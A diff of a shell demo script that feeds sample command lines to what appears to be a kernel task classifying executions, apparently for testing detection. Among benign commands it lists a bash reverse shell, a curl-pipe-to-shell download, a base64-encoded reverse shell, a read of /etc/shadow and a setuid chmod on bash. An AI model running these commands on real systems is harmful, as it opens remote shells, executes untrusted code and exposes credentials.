@@ -6,7 +6,9 @@ K=build/cmake/loader/kinfer
 PY=.venv/bin/python
 GUARD=/sys/kernel/kinfer/tasks/cmdline-guard
 export PYTHONDONTWRITEBYTECODE=1
-step() { printf '\n== %s\n$ %s\n' "$1" "$2"; sh -c "$2"; }
+# eval, not sh -c: a shell's own argv would be a command line the task
+# classifies; echo into sysfs is a builtin and execs nothing.
+step() { printf '\n== %s\n$ %s\n' "$1" "$2"; eval "$2"; }
 # Command lines go on stdin: an exec's own argv is classified too.
 execs() { printf '%s\n' "$@" | $PY scripts/demo-exec.py; }
 
@@ -25,7 +27,7 @@ execs "ls -la /var/log" "systemctl status nginx" "git log --oneline -5" \
 	"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" \
 	"sh -c 'curl -s http://198.51.100.7/x.sh | sh'" \
 	"sh -c 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash'" \
-	"cat /etc/shadow" "chmod u+s /bin/bash" "nc -z db.internal 5432"
+	"cat /etc/shadow" "chmod u+s /bin/bash" "ssh deploy@10.0.4.2 uptime"
 
 printf '\n== kernel log lines (written to /dev/kmsg)\n'
 $PY -c "
